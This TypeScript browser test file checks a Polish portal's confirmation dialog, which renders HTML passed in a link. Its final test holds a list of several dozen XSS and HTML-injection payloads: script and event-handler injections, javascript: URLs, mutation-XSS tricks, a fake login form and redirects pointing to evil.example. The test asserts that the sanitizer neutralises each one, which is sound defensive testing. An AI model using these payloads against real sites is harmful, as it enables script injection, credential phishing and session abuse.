import { expect, test, vi } from "vitest";
import { page } from "vitest/browser";
import { answers } from "#test/answers.ts";
import { appears, until } from "@plon/client/test/clock.ts";
import { answerMember, FARM } from "#test/farm.ts";
import { DESKTOP, modalOpen, open, signIn } from "#test/portal.ts";

const dialog = page.getByRole("dialog");
const isClosed = () => document.querySelector("[role=dialog]") === null;
const link = (content: string) => `/dashboard?content=${encodeURIComponent(content)}#!potwierdzenie`;

/** Changes the address as a pressed link would. */
async function follow(content: string): Promise<void> {
  location.hash = "";
  await until(isClosed, "the closed dialog");
  location.hash = `!potwierdzenie?content=${encodeURIComponent(content)}`;
  await modalOpen();
}

test("[MODAL-13, MODAL-37] a link with content shows it in a narrow dialog, with emphasis, lists and links inside", async () => {
  expect(innerWidth).toBe(DESKTOP[0]);
  signIn();
  await open(
    link(
      '<p>Dziękujemy, <strong>Janie</strong>. <em>Faktura</em> dotarła.</p><ul><li>Zajrzyj do <a href="/moje-faktury">moich faktur</a></li></ul>',
    ),
  );
  const told = dialog.element();
  await expect.element(dialog.getByRole("heading", { name: "Potwierdzenie" })).toBeVisible();
  expect(told.querySelector("strong")).toHaveTextContent("Janie");
  expect(told.querySelector("em")).toHaveTextContent("Faktura");
  expect(told.querySelector("li")).toHaveTextContent("Zajrzyj do moich faktur");
  expect(told.getBoundingClientRect().width).toBe(300);
  await dialog.getByRole("link", { name: "moich faktur" }).click();
  await until(() => location.pathname === "/moje-faktury" && isClosed(), "the page behind the link");
  expect(location.hash).toBe("");
});

test("[MODAL-13] closing takes the hash away", async () => {
  signIn();
  await open(link("<p>Gotowe</p>"));
  await dialog.getByRole("button", { name: "Rozumiem" }).click();
  await until(isClosed, "the closed dialog");
  expect(location.hash).toBe("");
});

test("[MODAL-14] without anything to say it says 'Brak danych'", async () => {
  signIn();
  await open("/dashboard#!potwierdzenie");
  await expect.element(dialog.getByText("Brak danych")).toBeVisible();
  for (const nothing of ["", "   ", "<p> </p>", "<script>alert(1)</script>", "<img src=x>", "a".repeat(5001)]) {
    await follow(nothing);
    await expect.element(dialog.getByText("Brak danych")).toBeVisible();
  }
});

test("[MODAL-13, MODAL-36] a visitor with such a link signs in first; alone, query content means first login", async () => {
  await open("/#!potwierdzenie?content=Gotowe");
  await expect.element(dialog.getByRole("heading", { name: "Zaloguj się" })).toBeVisible();
  await dialog.getByRole("textbox", { name: "NIP lub PESEL" }).fill("1003002997");
  await dialog.getByRole("textbox", { name: "Hasło", exact: true }).fill("Haslo#2026");
  answers.on("POST /api/v1/auth/login", { auth_token: "token-of-the-test", expires_in: 3600 });
  answerMember(FARM);
  await dialog.getByRole("button", { name: "Zaloguj się" }).click();
  await appears(dialog.getByText("Gotowe"), { flows: true });
});

test("[MODAL-36] query content without a hash opens the first sign-in", async () => {
  await open("/?content=Gotowe");
  await modalOpen();
  await expect.element(dialog.getByRole("heading", { name: /Pierwsze logowanie/ })).toBeVisible();
});

/** Written for this dialog: what must neither act, load, lead away nor dress up. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=//evil.example/x.png>",
  "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
  "<p/onclick=alert(1)>x</p>",
  "<svg onload=alert(1)></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  '<svg><style><img src="</style><img src=x onerror=alert(1)>"></svg>',
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=//evil.example></object><embed src=//evil.example>",
  "<video src=x onerror=alert(1)></video><audio autoplay src=//evil.example></audio>",
  "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>",
  "<form action=//evil.example><input name=haslo><button>Zaloguj się</button></form>",
  "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
  '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
  '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
  '<p id="root" class="fixed" name="tresc">x</p>',
  "<template><img src=x onerror=alert(1)></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<custom-thing onclick=alert(1)>x</custom-thing>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:alert(1)">x</a>',
  '<a href="https://evil.example/">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="/&#9;/evil.example/">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="mailto:a@evil.example">x</a>',
  '<a href="tel:+48700000000">x</a>',
  '<a href="/api/v1/auth/logout">x</a>',
  '<a href="/%61pi/v1/auth/logout">x</a>',
  '<a href="/x/../api/v1/auth/logout">x</a>',
  '<a href="/office/">x</a>',
  '<a href="/faq" target="_blank" ping="//evil.example" download>x</a>',
  '<area href="javascript:alert(1)"><map name=x></map>',
];

test("[MODAL-36] whatever a link carries, nothing of it acts, loads or leads out", async () => {
  const alarms: string[] = [];
  vi.spyOn(globalThis, "alert").mockImplementation((text) => void alarms.push(String(text)));
  signIn();
  await open("/dashboard");
  for (const [place, content] of HOSTILE.entries()) {
    location.hash = `!potwierdzenie?content=${encodeURIComponent(`<p>tekst${place}.</p>${content}`)}`;
    await (place === 0
      ? modalOpen()
      : until(() => dialog.query()?.textContent.includes(`tekst${place}.`) === true, content, { flows: true }));
    const box = dialog.element();
    const all = [...box.querySelectorAll("*")];
    const foreign =
      "script,style,iframe,object,embed,img,image,form,input,template,math,base,meta,link,video,audio,area";
    const found = {
      foreign: all.filter((element) => element.matches(foreign)).map((element) => element.outerHTML),
      acting: all
        .flatMap((element) => element.getAttributeNames())
        .filter((name) => /^on|^ping$|^download$/.test(name)),
      dressed: all.filter((element) => element.matches("#root, .fixed, [name=tresc]")).length,
      links: [...box.querySelectorAll("a")].map((element) => element.getAttribute("href")),
    };
    expect.soft(found, content).toEqual({
      foreign: [],
      acting: [],
      dressed: 0,
      links: content.includes('href="/faq"') ? ["/faq"] : [],
    });
  }
  const loaded = performance.getEntriesByType("resource").filter(({ name }) => name.includes("evil.example"));
  expect([...alarms, ...loaded.map(({ name }) => name)]).toEqual([]);
  expect(location.pathname).toBe("/dashboard");
});
